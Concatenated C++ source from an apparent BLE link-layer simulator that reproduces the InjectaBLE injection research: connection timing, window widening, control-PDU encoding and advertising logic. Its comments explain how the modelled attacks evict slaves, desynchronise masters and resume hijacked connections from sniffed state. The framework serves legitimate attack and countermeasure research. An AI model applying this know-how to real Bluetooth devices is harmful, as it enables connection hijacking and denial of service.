                if (closed_ || state_ != State::kSlaveWaitAnchor) return;
                radio_.stop_listening();
                close_event();
            });
        return;
    }
    close_event();
}

void Connection::close_event() {
    if (closed_) return;
    state_ = State::kIdle;
    radio_.stop_listening();
    emit_conn_event(obs::ConnEvent::Kind::kEventClosed);
    if (hooks_.on_event_closed) hooks_.on_event_closed(report_);
    ++event_counter_;
    schedule_next_event();
}

void Connection::apply_instant_procedures() {
    if (pending_map_ && instant_reached(pending_map_->instant)) {
        config_.params.channel_map = pending_map_->map;
        config_.selector->set_channel_map(pending_map_->map);
        pending_map_.reset();
    }
}

void Connection::schedule_next_event() {
    // Deliberately unspanned (link.conn.process_frame and link.csa*.hop carry
    // the connection profile): this runs once per connection event and its
    // time reads naturally as the enclosing dispatch's self-time.
    // Connection update: the event at `instant` is reached through a transmit
    // window (paper Fig. 2), like connection setup.
    const Duration old_interval = config_.params.interval();
    bool update_now = false;
    ConnectionUpdateInd update{};
    if (pending_update_ &&
        static_cast<std::uint16_t>(pending_update_->instant) == event_counter_) {
        update = *pending_update_;
        update_now = true;
        config_.params.win_size = update.win_size;
        config_.params.win_offset = update.win_offset;
        config_.params.hop_interval = update.interval;
        config_.params.latency = update.latency;
        config_.params.timeout = update.timeout;
        pending_update_.reset();
        if (hooks_.on_connection_updated) hooks_.on_connection_updated(update);
    }
    apply_instant_procedures();

    // Slave latency: skip events when idle (never across a procedure instant).
    int skipped = 0;
    if (config_.role == Role::kSlave && config_.params.latency > 0 && !update_now &&
        !pending_update_ && !pending_map_ && tx_queue_.empty() && !in_flight_ &&
        anchor_valid_ && events_since_anchor_ == 0) {
        skipped = config_.params.latency;
        for (int i = 0; i < skipped; ++i) {
            config_.selector->channel_for_event(event_counter_);
            ++event_counter_;
        }
    }

    channel_ = config_.selector->channel_for_event(event_counter_);
    report_ = ConnectionEventReport{};
    report_.event_counter = event_counter_;
    report_.channel = channel_;

    Duration delay;       // from the previous nominal anchor, on local clock
    Duration window_len;  // slave listening window beyond widening
    if (update_now) {
        delay = old_interval + kTransmitWindowDelayUncoded +
                static_cast<Duration>(update.win_offset) * kUnit1250us;
        window_len = static_cast<Duration>(update.win_size) * kUnit1250us;
    } else {
        delay = static_cast<Duration>(1 + skipped) * config_.params.interval();
        window_len = 0;
    }

    if (config_.role == Role::kMaster) {
        const TimePoint next = anchor_ + radio_.sleep_clock().to_global(delay);
        timer_ = guarded_at(next, [this] { master_event_begin(); });
        return;
    }

    // Slave: predict and widen.
    const TimePoint base = predicted_anchor_;
    predicted_anchor_ = base + radio_.sleep_clock().to_global(delay);
    const Duration span = anchor_valid_
                              ? predicted_anchor_ - anchor_
                              : delay * (1 + events_since_anchor_);
    const Duration widening = static_cast<Duration>(
        static_cast<double>(window_widening(config_.params.master_sca_ppm(),
                                            config_.own_sca_ppm, span)) *
        config_.widening_scale);
    slave_open_window(predicted_anchor_, window_len, widening);
}

void Connection::check_supervision(TimePoint now) {
    if (now - last_valid_rx_ > config_.params.supervision_timeout()) {
        disconnect(anchor_valid_ ? DisconnectReason::kSupervisionTimeout
                                 : DisconnectReason::kFailedToEstablish);
    }
}

void Connection::disconnect(DisconnectReason reason) {
    if (closed_) return;
    closed_ = true;
    state_ = State::kClosed;
    if (timer_ != sim::kInvalidEvent) {
        radio_.scheduler().cancel(timer_);
        timer_ = sim::kInvalidEvent;
    }
    radio_.stop_listening();
    BLE_LOG_DEBUG("connection (", radio_.name(), ") closed: ", disconnect_reason_name(reason));
    emit_conn_event(obs::ConnEvent::Kind::kClosed, disconnect_reason_name(reason));
    if (hooks_.on_disconnected) hooks_.on_disconnected(reason);
}

}  // namespace ble::link
