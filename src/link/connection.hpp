// The Link-Layer connection state machine (paper §III-B.5-8) for both roles.
//
// One Connection instance drives one end of a BLE connection on top of a
// sim::RadioDevice:
//  * Master: transmits the anchor frame of every connection event on its own
//    sleep clock, then listens for the slave's response.
//  * Slave: predicts each anchor from the last observed one, opens its
//    receive window early by the Eq. 4/5 *window widening* — the exact
//    mechanism InjectaBLE races against — and re-anchors on whatever frame
//    arrives first with a matching access address, CRC-valid or not (a
//    CRC-failed frame still sets the anchor and triggers a response with an
//    unchanged NESN, which is what makes the paper's Eq. 7 success heuristic
//    observable).
//
// The class is deliberately constructible from raw state (parameters, event
// counter, SN/NESN, channel-selector state) rather than only via a
// CONNECT_REQ exchange: the attack scenarios B/C/D *become* a master or
// slave mid-connection, so they resume a Connection from sniffed state.
#pragma once

#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <optional>
#include <string_view>

#include "common/bytes.hpp"
#include "common/time.hpp"
#include "link/adv_pdu.hpp"
#include "obs/event.hpp"
#include "link/channel_selection.hpp"
#include "link/control_pdu.hpp"
#include "link/pdu.hpp"
#include "sim/radio_device.hpp"

namespace ble::link {

enum class Role : std::uint8_t { kMaster, kSlave };

enum class DisconnectReason : std::uint8_t {
    kLocalTerminate,
    kRemoteTerminate,
    kSupervisionTimeout,
    kMicFailure,
    kFailedToEstablish,
};

[[nodiscard]] const char* disconnect_reason_name(DisconnectReason reason) noexcept;

/// Window widening, Eq. 4 of the paper: the extra time a receiver listens on
/// each side of the predicted anchor to absorb both clocks' drift over `span`
/// (the time since the last observed anchor).
[[nodiscard]] Duration window_widening(double master_sca_ppm, double slave_sca_ppm,
                                       Duration span) noexcept;

/// Diagnostics emitted at the close of every connection event.
struct ConnectionEventReport {
    std::uint16_t event_counter = 0;
    std::uint8_t channel = 0;
    TimePoint anchor = 0;       ///< global time of the event's anchor
    bool anchor_observed = false;  ///< slave: heard a master frame this event
    int pdus_rx = 0;
    int pdus_tx = 0;
    int crc_errors = 0;
};

struct ConnectionHooks {
    /// New (non-duplicate) data PDU accepted by flow control. Control PDUs are
    /// handled internally first; they are reported through on_control.
    std::function<void(const DataPdu&)> on_data;
    /// Every control PDU accepted by flow control (after built-in handling).
    std::function<void(const ControlPdu&)> on_control;
    std::function<void(DisconnectReason)> on_disconnected;
    std::function<void(const ConnectionEventReport&)> on_event_closed;
    /// A connection-update procedure just took effect (at its instant).
    std::function<void(const ConnectionUpdateInd&)> on_connection_updated;
};

/// Link-layer encryption hook (implemented by ble_crypto::LinkEncryption).
/// When attached and enabled, every non-empty PDU payload is sealed/opened;
/// a MIC failure on receive terminates the connection (Vol 6, Part B §5.1.3.1
/// — the DoS outcome the paper predicts for injection into encrypted links).
class LinkCrypto {
public:
    virtual ~LinkCrypto() = default;
    /// Seals `payload`; returns ciphertext || MIC. `first_header_byte` is the
    /// PDU header byte with SN/NESN/MD masked out, as the spec's AAD.
    virtual Bytes encrypt(std::uint8_t first_header_byte, BytesView payload,
                          bool sender_is_master) = 0;
    /// Opens ciphertext || MIC; nullopt on MIC mismatch.
    virtual std::optional<Bytes> decrypt(std::uint8_t first_header_byte, BytesView payload,
                                         bool sender_is_master) = 0;
    [[nodiscard]] virtual std::size_t mic_size() const noexcept { return 4; }
};

struct ConnectionConfig {
    Role role = Role::kSlave;
    ConnectionParams params{};
    /// SCA (ppm) this end assumes for itself when computing window widening.
    /// The paper's slave uses its real worst-case; defaults to 20 ppm.
    double own_sca_ppm = 20.0;
    /// Counter-measure knob (paper §VIII, solution 1): scales the slave's
    /// window widening below the spec value. 1.0 = spec behaviour; smaller
    /// values shrink the race window at the cost of link robustness.
    double widening_scale = 1.0;
    /// Initial flow-control / hopping state; non-default when an attacker
    /// resumes a hijacked connection mid-flight.
    std::uint16_t initial_event_counter = 0;
    bool initial_sn = false;
    bool initial_nesn = false;
    /// Channel selector; defaults to CSA#1 built from params.
    std::unique_ptr<ChannelSelector> selector;
    /// Maximum data-channel payload this end accepts/transmits (27 default).
    std::size_t max_payload = 27;
};

class Connection {
public:
    Connection(sim::RadioDevice& radio, ConnectionConfig config, ConnectionHooks hooks);
    ~Connection();

    Connection(const Connection&) = delete;
    Connection& operator=(const Connection&) = delete;

    /// Arms the first connection event. `t_ref` is the end of the CONNECT_REQ
    /// (paper Eq. 1): the transmit window opens at
    /// t_ref + 1.25 ms + WinOffset*1.25 ms.
    void start(TimePoint t_ref);

    /// Resumes mid-connection at a known anchor: the next event (at
    /// `config.initial_event_counter`) is predicted at `next_anchor`.
    /// Used by hijacking attackers that join at a connection-update instant.
    void resume(TimePoint next_anchor);

    /// Radio plumbing — the owning device forwards these.
    void handle_rx(const sim::RxFrame& frame);
    void handle_tx_complete();

    /// Enqueues an upper-layer payload (L2CAP fragment).
    void send_data(Llid llid, Bytes payload);
    /// Enqueues an LL control PDU.
    void send_control(const ControlPdu& pdu);
    /// Graceful termination: sends LL_TERMINATE_IND, disconnects once acked.
    void terminate(std::uint8_t error_code = 0x13);

    /// Master only: starts a connection-update procedure. If `update.instant`
    /// is 0 it is set to current event counter + `instant_delta`.
    bool start_connection_update(ConnectionUpdateInd update, std::uint16_t instant_delta = 6);
    /// Master only: starts a channel-map-update procedure.
    bool start_channel_map_update(ChannelMap map, std::uint16_t instant_delta = 6);

    void set_crypto(std::shared_ptr<LinkCrypto> crypto) { crypto_ = std::move(crypto); }
    /// Turns encryption on/off for subsequent PDUs (after LL_START_ENC).
    void set_encryption_enabled(bool enabled) noexcept { encrypted_ = enabled; }
    [[nodiscard]] bool encryption_enabled() const noexcept { return encrypted_; }

    // --- observers ---
    [[nodiscard]] Role role() const noexcept { return config_.role; }
    [[nodiscard]] const ConnectionParams& params() const noexcept { return config_.params; }
    [[nodiscard]] std::uint16_t event_counter() const noexcept { return event_counter_; }
    [[nodiscard]] bool sn() const noexcept { return sn_; }
    [[nodiscard]] bool nesn() const noexcept { return nesn_; }
    [[nodiscard]] bool closed() const noexcept { return closed_; }
    [[nodiscard]] TimePoint last_anchor() const noexcept { return anchor_; }
    [[nodiscard]] bool anchor_ever_observed() const noexcept { return anchor_valid_; }
    [[nodiscard]] std::size_t tx_queue_depth() const noexcept { return tx_queue_.size(); }

private:
    enum class State : std::uint8_t {
        kIdle,               // between events
        kMasterTxAnchor,     // master: anchor frame in flight
        kMasterWaitRsp,      // master: listening for the slave
        kSlaveWaitAnchor,    // slave: receive window open
        kSlaveTxRsp,         // slave: response in flight
        kClosed,
    };

    // Event lifecycle.
    void master_event_begin();
    void master_continue_exchange();
    void slave_open_window(TimePoint window_start, Duration window_len, Duration widening);
    void slave_window_timeout();
    void close_event();
    void schedule_next_event();
    void apply_instant_procedures();  // connection update / channel map at instant
    void disconnect(DisconnectReason reason);

    // PDU plumbing.
    static bool is_start_enc_req(const DataPdu& pdu) noexcept;
    DataPdu build_next_pdu();
    void transmit_pdu(const DataPdu& pdu);
    void process_frame(const DataPdu& pdu, bool crc_ok, TimePoint rx_start, TimePoint rx_end);
    void handle_control(const ControlPdu& pdu);
    void check_supervision(TimePoint now);

    [[nodiscard]] Duration max_frame_air_time() const noexcept;
    [[nodiscard]] Duration base_widening(int events_elapsed) const noexcept;
    [[nodiscard]] bool instant_reached(std::uint16_t instant) const noexcept;

    /// Publishes a lifecycle event on the world's obs::EventBus (reachable via
    /// the radio's medium); `reason` is only used for Kind::kClosed.
    void emit_conn_event(obs::ConnEvent::Kind kind, std::string_view reason = {});

    /// Schedules `fn` but silently drops it if this Connection has been
    /// destroyed or closed by then — every internal timer goes through these,
    /// so tearing down a device mid-event can never fire a dangling callback.
    sim::EventId guarded_at(TimePoint t, std::function<void()> fn);
    sim::EventId guarded_after(Duration d, std::function<void()> fn);

    sim::RadioDevice& radio_;
    ConnectionConfig config_;
    ConnectionHooks hooks_;
    std::shared_ptr<LinkCrypto> crypto_;
    std::shared_ptr<char> alive_ = std::make_shared<char>(0);

    State state_ = State::kIdle;
    bool closed_ = false;
    bool encrypted_ = false;

    // Flow control (paper §III-B.6).
    bool sn_ = false;    // transmitSeqNum
    bool nesn_ = false;  // nextExpectedSeqNum
    struct PendingTx {
        Llid llid{};
        Bytes payload;
    };
    std::deque<PendingTx> tx_queue_;
    std::optional<PendingTx> in_flight_;  // transmitted, not yet acked
    bool terminate_sent_ = false;
    bool terminate_after_tx_ = false;
    bool start_enc_rsp_sent_ = false;
    std::uint8_t pending_terminate_code_ = 0x13;
    bool version_sent_ = false;

    // Event timing.
    Duration last_widening_ = 0;  // widening of the current/most recent window
    std::uint16_t event_counter_ = 0;
    std::uint8_t channel_ = 0;
    TimePoint anchor_ = 0;            // global time of last *observed* anchor
    bool anchor_valid_ = false;
    TimePoint predicted_anchor_ = 0;  // slave: next anchor prediction
    int events_since_anchor_ = 0;     // slave: missed-event multiplier for Eq. 4
    TimePoint last_valid_rx_ = 0;     // supervision timer base
    sim::EventId timer_ = sim::kInvalidEvent;

    // In-event bookkeeping.
    ConnectionEventReport report_{};
    bool peer_md_ = false;
    TimePoint last_rx_end_ = 0;
    DataPdu last_tx_pdu_{};

    // Pending procedures (applied at their instant).
    std::optional<ConnectionUpdateInd> pending_update_;
    std::optional<ChannelMapInd> pending_map_;
};

}  // namespace ble::link
