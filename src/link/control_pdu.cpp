#include "link/control_pdu.hpp"

namespace ble::link {

const char* control_opcode_name(ControlOpcode opcode) noexcept {
    switch (opcode) {
        case ControlOpcode::kConnectionUpdateInd: return "LL_CONNECTION_UPDATE_IND";
        case ControlOpcode::kChannelMapInd: return "LL_CHANNEL_MAP_IND";
        case ControlOpcode::kTerminateInd: return "LL_TERMINATE_IND";
        case ControlOpcode::kEncReq: return "LL_ENC_REQ";
        case ControlOpcode::kEncRsp: return "LL_ENC_RSP";
        case ControlOpcode::kStartEncReq: return "LL_START_ENC_REQ";
        case ControlOpcode::kStartEncRsp: return "LL_START_ENC_RSP";
        case ControlOpcode::kUnknownRsp: return "LL_UNKNOWN_RSP";
        case ControlOpcode::kFeatureReq: return "LL_FEATURE_REQ";
        case ControlOpcode::kFeatureRsp: return "LL_FEATURE_RSP";
        case ControlOpcode::kPauseEncReq: return "LL_PAUSE_ENC_REQ";
        case ControlOpcode::kPauseEncRsp: return "LL_PAUSE_ENC_RSP";
        case ControlOpcode::kVersionInd: return "LL_VERSION_IND";
        case ControlOpcode::kRejectInd: return "LL_REJECT_IND";
        case ControlOpcode::kSlaveFeatureReq: return "LL_SLAVE_FEATURE_REQ";
        case ControlOpcode::kConnectionParamReq: return "LL_CONNECTION_PARAM_REQ";
        case ControlOpcode::kConnectionParamRsp: return "LL_CONNECTION_PARAM_RSP";
        case ControlOpcode::kRejectExtInd: return "LL_REJECT_EXT_IND";
        case ControlOpcode::kPingReq: return "LL_PING_REQ";
        case ControlOpcode::kPingRsp: return "LL_PING_RSP";
        case ControlOpcode::kLengthReq: return "LL_LENGTH_REQ";
        case ControlOpcode::kLengthRsp: return "LL_LENGTH_RSP";
        case ControlOpcode::kPhyReq: return "LL_PHY_REQ";
        case ControlOpcode::kPhyRsp: return "LL_PHY_RSP";
        case ControlOpcode::kPhyUpdateInd: return "LL_PHY_UPDATE_IND";
        case ControlOpcode::kMinUsedChannelsInd: return "LL_MIN_USED_CHANNELS_IND";
        case ControlOpcode::kClockAccuracyReq: return "LL_CLOCK_ACCURACY_REQ";
        case ControlOpcode::kClockAccuracyRsp: return "LL_CLOCK_ACCURACY_RSP";
    }
    return "LL_UNKNOWN";
}

Bytes ControlPdu::serialize() const {
    ByteWriter w(1 + ctr_data.size());
    w.write_u8(static_cast<std::uint8_t>(opcode));
    w.write_bytes(ctr_data);
    return w.take();
}

std::optional<ControlPdu> ControlPdu::parse(BytesView payload) noexcept {
    if (payload.empty()) return std::nullopt;
    ControlPdu out;
    out.opcode = static_cast<ControlOpcode>(payload[0]);
    out.ctr_data.assign(payload.begin() + 1, payload.end());
    return out;
}

ControlPdu ConnectionUpdateInd::to_control() const {
    ByteWriter w(11);
    w.write_u8(win_size);
    w.write_u16(win_offset);
    w.write_u16(interval);
    w.write_u16(latency);
    w.write_u16(timeout);
    w.write_u16(instant);
    return ControlPdu{ControlOpcode::kConnectionUpdateInd, w.take()};
}

std::optional<ConnectionUpdateInd> ConnectionUpdateInd::parse(const ControlPdu& pdu) noexcept {
    if (pdu.opcode != ControlOpcode::kConnectionUpdateInd || pdu.ctr_data.size() != 11) {
        return std::nullopt;
    }
    ByteReader r(pdu.ctr_data);
    ConnectionUpdateInd out;
    out.win_size = *r.read_u8();
    out.win_offset = *r.read_u16();
    out.interval = *r.read_u16();
    out.latency = *r.read_u16();
    out.timeout = *r.read_u16();
    out.instant = *r.read_u16();
    return out;
}

ControlPdu ChannelMapInd::to_control() const {
    ByteWriter w(7);
    map.write_to(w);
    w.write_u16(instant);
    return ControlPdu{ControlOpcode::kChannelMapInd, w.take()};
}

std::optional<ChannelMapInd> ChannelMapInd::parse(const ControlPdu& pdu) noexcept {
    if (pdu.opcode != ControlOpcode::kChannelMapInd || pdu.ctr_data.size() != 7) {
        return std::nullopt;
    }
    ByteReader r(pdu.ctr_data);
    ChannelMapInd out;
    out.map = ChannelMap::read_from(r);
    out.instant = *r.read_u16();
    return out;
}

ControlPdu TerminateInd::to_control() const {
    return ControlPdu{ControlOpcode::kTerminateInd, Bytes{error_code}};
}

std::optional<TerminateInd> TerminateInd::parse(const ControlPdu& pdu) noexcept {
    if (pdu.opcode != ControlOpcode::kTerminateInd || pdu.ctr_data.size() != 1) {
        return std::nullopt;
    }
    return TerminateInd{pdu.ctr_data[0]};
}

ControlPdu EncReq::to_control() const {
    ByteWriter w(22);
    w.write_u64(rand);
    w.write_u16(ediv);
    w.write_bytes(BytesView(skd_m.data(), skd_m.size()));
    w.write_bytes(BytesView(iv_m.data(), iv_m.size()));
    return ControlPdu{ControlOpcode::kEncReq, w.take()};
}

std::optional<EncReq> EncReq::parse(const ControlPdu& pdu) noexcept {
    if (pdu.opcode != ControlOpcode::kEncReq || pdu.ctr_data.size() != 22) return std::nullopt;
    ByteReader r(pdu.ctr_data);
    EncReq out;
    out.rand = *r.read_u64();
    out.ediv = *r.read_u16();
    auto skd = r.read_bytes(8);
    auto iv = r.read_bytes(4);
    std::copy(skd->begin(), skd->end(), out.skd_m.begin());
    std::copy(iv->begin(), iv->end(), out.iv_m.begin());
    return out;
}

ControlPdu EncRsp::to_control() const {
    ByteWriter w(12);
    w.write_bytes(BytesView(skd_s.data(), skd_s.size()));
    w.write_bytes(BytesView(iv_s.data(), iv_s.size()));
    return ControlPdu{ControlOpcode::kEncRsp, w.take()};
}

std::optional<EncRsp> EncRsp::parse(const ControlPdu& pdu) noexcept {
    if (pdu.opcode != ControlOpcode::kEncRsp || pdu.ctr_data.size() != 12) return std::nullopt;
    ByteReader r(pdu.ctr_data);
    EncRsp out;
    auto skd = r.read_bytes(8);
    auto iv = r.read_bytes(4);
    std::copy(skd->begin(), skd->end(), out.skd_s.begin());
    std::copy(iv->begin(), iv->end(), out.iv_s.begin());
    return out;
}

ControlPdu FeatureSet::to_control(ControlOpcode opcode) const {
    ByteWriter w(8);
    w.write_u64(bits);
    return ControlPdu{opcode, w.take()};
}

std::optional<FeatureSet> FeatureSet::parse(const ControlPdu& pdu) noexcept {
    if (pdu.ctr_data.size() != 8) return std::nullopt;
    ByteReader r(pdu.ctr_data);
    return FeatureSet{*r.read_u64()};
}

ControlPdu VersionInd::to_control() const {
    ByteWriter w(5);
    w.write_u8(version);
    w.write_u16(company_id);
    w.write_u16(subversion);
    return ControlPdu{ControlOpcode::kVersionInd, w.take()};
}

std::optional<VersionInd> VersionInd::parse(const ControlPdu& pdu) noexcept {
    if (pdu.opcode != ControlOpcode::kVersionInd || pdu.ctr_data.size() != 5) {
        return std::nullopt;
    }
    ByteReader r(pdu.ctr_data);
    VersionInd out;
    out.version = *r.read_u8();
    out.company_id = *r.read_u16();
    out.subversion = *r.read_u16();
    return out;
}

ControlPdu ClockAccuracy::to_control(ControlOpcode opcode) const {
    return ControlPdu{opcode, Bytes{sca}};
}

std::optional<ClockAccuracy> ClockAccuracy::parse(const ControlPdu& pdu) noexcept {
    if (pdu.ctr_data.size() != 1) return std::nullopt;
    return ClockAccuracy{pdu.ctr_data[0]};
}

ControlPdu UnknownRsp::to_control() const {
    return ControlPdu{ControlOpcode::kUnknownRsp, Bytes{unknown_type}};
}

std::optional<UnknownRsp> UnknownRsp::parse(const ControlPdu& pdu) noexcept {
    if (pdu.opcode != ControlOpcode::kUnknownRsp || pdu.ctr_data.size() != 1) {
        return std::nullopt;
    }
    return UnknownRsp{pdu.ctr_data[0]};
}

}  // namespace ble::link
