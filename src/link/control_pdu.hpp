// LL Control PDUs (Vol 6, Part B, §2.4.2).
//
// Three of these are the paper's attack payloads:
//  * LL_TERMINATE_IND       — scenario B, evicting the slave,
//  * LL_CONNECTION_UPDATE_IND — scenarios C/D, desynchronising the master,
//  * LL_CHANNEL_MAP_IND     — same family, steering the hopping sequence.
// The rest are implemented so the emulated stacks answer control traffic the
// way real devices do (feature/version exchange, ping, clock accuracy...).
#pragma once

#include <array>
#include <cstdint>
#include <optional>

#include "common/bytes.hpp"
#include "link/channel_map.hpp"

namespace ble::link {

enum class ControlOpcode : std::uint8_t {
    kConnectionUpdateInd = 0x00,
    kChannelMapInd = 0x01,
    kTerminateInd = 0x02,
    kEncReq = 0x03,
    kEncRsp = 0x04,
    kStartEncReq = 0x05,
    kStartEncRsp = 0x06,
    kUnknownRsp = 0x07,
    kFeatureReq = 0x08,
    kFeatureRsp = 0x09,
    kPauseEncReq = 0x0A,
    kPauseEncRsp = 0x0B,
    kVersionInd = 0x0C,
    kRejectInd = 0x0D,
    kSlaveFeatureReq = 0x0E,
    kConnectionParamReq = 0x0F,
    kConnectionParamRsp = 0x10,
    kRejectExtInd = 0x11,
    kPingReq = 0x12,
    kPingRsp = 0x13,
    kLengthReq = 0x14,
    kLengthRsp = 0x15,
    kPhyReq = 0x16,
    kPhyRsp = 0x17,
    kPhyUpdateInd = 0x18,
    kMinUsedChannelsInd = 0x19,
    kClockAccuracyReq = 0x1D,
    kClockAccuracyRsp = 0x1E,
};

[[nodiscard]] const char* control_opcode_name(ControlOpcode opcode) noexcept;

/// A raw control PDU payload: opcode byte + CtrData.
struct ControlPdu {
    ControlOpcode opcode{};
    Bytes ctr_data;

    /// Full LL payload ([opcode | CtrData]) to place in a DataPdu with
    /// Llid::kControl.
    [[nodiscard]] Bytes serialize() const;
    static std::optional<ControlPdu> parse(BytesView payload) noexcept;
};

/// LL_CONNECTION_UPDATE_IND — the paper's Fig. 2/7 payload.
struct ConnectionUpdateInd {
    std::uint8_t win_size = 1;
    std::uint16_t win_offset = 0;
    std::uint16_t interval = 36;  ///< new Hop Interval
    std::uint16_t latency = 0;
    std::uint16_t timeout = 100;
    std::uint16_t instant = 0;    ///< applied when connEventCount == instant

    [[nodiscard]] ControlPdu to_control() const;
    static std::optional<ConnectionUpdateInd> parse(const ControlPdu& pdu) noexcept;
};

struct ChannelMapInd {
    ChannelMap map{};
    std::uint16_t instant = 0;

    [[nodiscard]] ControlPdu to_control() const;
    static std::optional<ChannelMapInd> parse(const ControlPdu& pdu) noexcept;
};

struct TerminateInd {
    std::uint8_t error_code = 0x13;  ///< "remote user terminated connection"

    [[nodiscard]] ControlPdu to_control() const;
    static std::optional<TerminateInd> parse(const ControlPdu& pdu) noexcept;
};

/// LL_ENC_REQ: master's half of the session-key material.
struct EncReq {
    std::uint64_t rand = 0;
    std::uint16_t ediv = 0;
    std::array<std::uint8_t, 8> skd_m{};
    std::array<std::uint8_t, 4> iv_m{};

    [[nodiscard]] ControlPdu to_control() const;
    static std::optional<EncReq> parse(const ControlPdu& pdu) noexcept;
};

/// LL_ENC_RSP: slave's half.
struct EncRsp {
    std::array<std::uint8_t, 8> skd_s{};
    std::array<std::uint8_t, 4> iv_s{};

    [[nodiscard]] ControlPdu to_control() const;
    static std::optional<EncRsp> parse(const ControlPdu& pdu) noexcept;
};

struct FeatureSet {
    std::uint64_t bits = 0;

    [[nodiscard]] ControlPdu to_control(ControlOpcode opcode) const;
    static std::optional<FeatureSet> parse(const ControlPdu& pdu) noexcept;
};

struct VersionInd {
    std::uint8_t version = 0x09;       // 5.0
    std::uint16_t company_id = 0x0059; // Nordic Semiconductor (the paper's chip)
    std::uint16_t subversion = 0;

    [[nodiscard]] ControlPdu to_control() const;
    static std::optional<VersionInd> parse(const ControlPdu& pdu) noexcept;
};

/// LL_CLOCK_ACCURACY_REQ / _RSP: advertises the sender's SCA — one of the
/// places the paper's attacker reads the master's clock accuracy from.
struct ClockAccuracy {
    std::uint8_t sca = 0;

    [[nodiscard]] ControlPdu to_control(ControlOpcode opcode) const;
    static std::optional<ClockAccuracy> parse(const ControlPdu& pdu) noexcept;
};

struct UnknownRsp {
    std::uint8_t unknown_type = 0;

    [[nodiscard]] ControlPdu to_control() const;
    static std::optional<UnknownRsp> parse(const ControlPdu& pdu) noexcept;
};

}  // namespace ble::link
