#include "link/device.hpp"

#include "common/log.hpp"
#include "phy/access_address.hpp"
#include "phy/crc.hpp"
#include "phy/frame.hpp"
#include "phy/spec.hpp"

namespace ble::link {

namespace {
constexpr sim::Channel kAdvChannels[3] = {37, 38, 39};
/// Longest advertising-channel frame: CONNECT_REQ (2 + 34 byte PDU).
constexpr Duration kMaxAdvFrameAir =
    static_cast<Duration>(phy::kPreambleBytesLe1M + phy::kAccessAddressBytes +
                          phy::kPduHeaderBytes + 34 + phy::kCrcBytes) *
    phy::kByteAirtimeLe1M;
constexpr Duration kAdvRxGuard = 30_us;
/// Scanner dwell per advertising channel (host policy, like scanInterval).
constexpr Duration kScanRotateInterval = 30_ms;

sim::AirFrame adv_air_frame(const AdvPdu& pdu) {
    return phy::make_air_frame(phy::kAdvertisingAccessAddress, pdu.serialize(),
                               phy::kAdvertisingCrcInit);
}
}  // namespace

LinkLayerDevice::LinkLayerDevice(sim::Scheduler& scheduler, sim::RadioMedium& medium, Rng rng,
                                 LinkLayerDeviceConfig config)
    : sim::RadioDevice(scheduler, medium, rng, config.radio), config_(std::move(config)) {}

LinkLayerDevice::~LinkLayerDevice() = default;

// --- Peripheral ---

void LinkLayerDevice::start_advertising(Bytes adv_data) {
    adv_data_ = std::move(adv_data);
    if (mode_ == Mode::kConnected) return;  // resumes on disconnect
    mode_ = Mode::kAdvertising;
    advertising_event();
}

void LinkLayerDevice::stop_advertising() {
    if (mode_ != Mode::kAdvertising) return;
    mode_ = Mode::kIdle;
    scheduler().cancel(adv_timer_);
    adv_timer_ = sim::kInvalidEvent;
    stop_listening();
}

void LinkLayerDevice::advertising_event() {
    if (mode_ != Mode::kAdvertising) return;
    adv_channel_index_ = 0;
    advertise_on_next_channel();
}

void LinkLayerDevice::advertise_on_next_channel() {
    if (mode_ != Mode::kAdvertising) return;
    if (adv_channel_index_ >= 3) {
        // End of the advertising event; schedule the next one with the
        // spec's 0-10 ms pseudo-random advDelay.
        const Duration delay =
            config_.adv_interval + static_cast<Duration>(rng().uniform(0.0, 10e6));
        adv_timer_ = schedule_local(delay, [this] { advertising_event(); });
        return;
    }
    AdvDataPdu adv;
    adv.type = AdvPduType::kAdvInd;
    adv.advertiser = config_.address;
    adv.data = adv_data_;
    AdvPdu pdu = adv.to_adv_pdu();
    pdu.ch_sel = config_.support_csa2;
    transmit(kAdvChannels[adv_channel_index_], adv_air_frame(pdu));
}

void LinkLayerDevice::handle_adv_channel_rx(const sim::RxFrame& frame) {
    const auto raw = phy::split_frame(frame.bytes);
    if (!raw || raw->access_address != phy::kAdvertisingAccessAddress) return;
    if (!raw->crc_ok(phy::kAdvertisingCrcInit)) return;
    const auto pdu = AdvPdu::parse(raw->pdu);
    if (!pdu) return;

    if (mode_ == Mode::kScanning) {
        if (adv_observer_) adv_observer_(*pdu, frame.end, frame.rssi_dbm, frame.channel);
        return;
    }

    if (mode_ == Mode::kAdvertising) {
        if (pdu->type == AdvPduType::kConnectReq) {
            if (auto req = ConnectReqPdu::parse(*pdu);
                req && req->advertiser == config_.address) {
                become_slave(*req, frame.end);
            }
            return;
        }
        if (pdu->type == AdvPduType::kScanReq && !scan_rsp_data_.empty()) {
            // SCAN_REQ payload: scanner address (6) + advertiser address (6).
            if (raw->pdu.size() == 2 + 12) {
                ByteReader r(BytesView(raw->pdu).subspan(8));
                if (auto target = DeviceAddress::read_from(
                        r, pdu->rx_add ? AddressType::kRandom : AddressType::kPublic);
                    target && *target == config_.address) {
                    sending_scan_rsp_ = true;
                    scheduler().cancel(adv_timer_);
                    const sim::Channel channel = kAdvChannels[adv_channel_index_];
                    // Fire-and-forget: the lambda re-checks mode_, so a stale
                    // response is a no-op and cancellation is never needed.
                    // injectable-lint: allow(D4) -- guarded by the mode_ check
                    (void)scheduler().schedule_at(frame.end + kTifs, [this, channel] {
                        if (mode_ != Mode::kAdvertising) return;
                        AdvDataPdu rsp;
                        rsp.type = AdvPduType::kScanRsp;
                        rsp.advertiser = config_.address;
                        rsp.data = scan_rsp_data_;
                        transmit(channel, adv_air_frame(rsp.to_adv_pdu()));
                    });
                }
            }
        }
        return;
    }

    if (mode_ == Mode::kInitiating && connect_target_ && !connect_req_in_flight_) {
        if (pdu->type == AdvPduType::kAdvInd) {
            if (auto adv = AdvDataPdu::parse(*pdu); adv && adv->advertiser == *connect_target_) {
                connect_req_in_flight_ = true;
                stop_listening();
                // CSA#2 when both ends advertise support (ChSel bits).
                initiate_params_.use_csa2 = config_.support_csa2 && pdu->ch_sel;
                const sim::Channel channel = frame.channel;
                // injectable-lint: allow(D4) -- guarded by the mode_ check
                (void)scheduler().schedule_at(frame.end + kTifs, [this, channel] {
                    if (mode_ != Mode::kInitiating) return;
                    ConnectReqPdu req;
                    req.initiator = config_.address;
                    req.advertiser = *connect_target_;
                    req.params = initiate_params_;
                    transmit(channel, adv_air_frame(req.to_adv_pdu()));
                });
            }
        }
    }
}

// --- Observer ---

void LinkLayerDevice::start_scanning(AdvObserver observer) {
    adv_observer_ = std::move(observer);
    mode_ = Mode::kScanning;
    scan_channel_index_ = 0;
